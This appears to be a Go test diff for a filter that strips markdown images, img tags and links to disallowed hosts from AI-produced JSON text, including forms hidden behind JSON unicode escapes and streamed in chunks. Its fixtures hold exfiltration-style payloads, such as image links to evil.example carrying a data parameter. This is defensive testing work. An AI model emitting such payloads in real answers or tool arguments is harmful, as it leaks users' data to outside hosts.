@@ -1,6 +1,9 @@
 package guard
 
 import (
+	"encoding/json"
+	"fmt"
+	"math/rand/v2"
 	"slices"
 	"strings"
 	"testing"
@@ -240,3 +243,78 @@ var fuzzSeeds = func() []string {
 	}
 	return append(s, fuzzFound...)
 }()
+
+// TestLinksThroughJSONEscapes: in a JSON answer (or a JSON document inside
+// a tool argument) markup written with JSON escapes is what its reader
+// decodes and renders, so the link passes read through the escapes. A
+// refused construct is removed from the text as sent, which stays JSON with
+// the same values but for it; escapes elsewhere and allowed constructs are
+// left as they were. Streamed in random pieces it gives what Check gives.
+func TestLinksThroughJSONEscapes(t *testing.T) {
+	allow := []string{"ok.example"}
+	const evilImage = "image from a host not allowed: evil.example"
+	esc := func(s string) string {
+		var b strings.Builder
+		for _, c := range s {
+			fmt.Fprintf(&b, `\u%04X`, c)
+		}
+		return b.String()
+	}
+	tests := []struct {
+		name, text, want string
+		reasons          []string
+	}{
+		{"brackets escaped", `{"s":"` + esc("![x]") + `(https://evil.example/p.png?d=D)"}`, `{"s":"[image removed]"}`, []string{evilImage}},
+		{"fully escaped", `{"s":"` + esc("![x](https://evil.example/p.png?d=D)") + `"}`, `{"s":"[image removed]"}`, []string{evilImage}},
+		{"lowercase hex, paren escaped", `{"s":"a \u0021[x]\u0028https://evil.example/p.png) b"}`, `{"s":"a [image removed] b"}`, []string{evilImage}},
+		{"escaped slashes", `{"s":"![x](https:\/\/evil.example\/p.png)"}`, `{"s":"[image removed]"}`, []string{evilImage}},
+		{"tag with an escaped space", `{"s":"\u003Cimg\u0020src=https://evil.example/p.png\u003E"}`, `{"s":"[image removed]"}`, []string{evilImage}},
+		{"definition after an escaped newline", `{"s":"see ![a][r]\n[r]: https://evil.example/p.png\nend"}`, `{"s":"see ![a][r]\n\nend"}`, []string{"link to a host not allowed: evil.example"}},
+		{"allowed image kept as written", `{"s":"` + esc("![x](https://ok.example/p.png)") + `"}`, `{"s":"` + esc("![x](https://ok.example/p.png)") + `"}`, nil},
+		{"other escapes kept", `{"s":"caf\u00e9 \u003C3 \"q\" \\u0021[x](https://evil.example)"}`, `{"s":"caf\u00e9 \u003C3 \"q\" \\u0021x"}`, []string{"link to a host not allowed: evil.example"}},
+	}
+	r := rand.New(rand.NewPCG(17, 18))
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			g := New()
+			v := g.Check(acme, tt.text, allow)
+			if v.Blocked || v.Text != tt.want || !slices.Equal(v.Reasons, tt.reasons) {
+				t.Fatalf("Check(%q)\n = %v %q %q\nwant %q %q", tt.text, v.Blocked, v.Text, v.Reasons, tt.want, tt.reasons)
+			}
+			if !json.Valid([]byte(v.Text)) {
+				t.Fatalf("Check(%q) = %q: not JSON any more", tt.text, v.Text)
+			}
+			for range 20 {
+				s := g.Stream(acme, allow)
+				var sent strings.Builder
+				for rest := tt.text; rest != ""; {
+					n := min(len(rest), 1+r.IntN(8))
+					out, sv := s.Write(rest[:n])
+					if sv.Blocked {
+						t.Fatalf("stream blocked: %q", sv.Reasons)
+					}
+					sent.WriteString(out)
+					rest = rest[n:]
+				}
+				out, _ := s.Flush()
+				if sent.WriteString(out); sent.String() != tt.want {
+					t.Fatalf("streamed %q, want %q", sent.String(), tt.want)
+				}
+			}
+		})
+	}
+}
+
+func TestCompleteEscapes(t *testing.T) {
+	tests := []struct {
+		s    string
+		want int
+	}{
+		{`abc`, 3}, {`a\`, 1}, {`a\u00`, 1}, {`a\u0021`, 7}, {`a\\`, 1}, {`a\\\u002`, 1}, {`a\n`, 3}, {`a\uzz`, 5},
+	}
+	for _, tt := range tests {
+		if got := completeEscapes(tt.s); got != tt.want {
+			t.Errorf("completeEscapes(%q) = %d, want %d", tt.s, got, tt.want)
+		}
+	}
+}
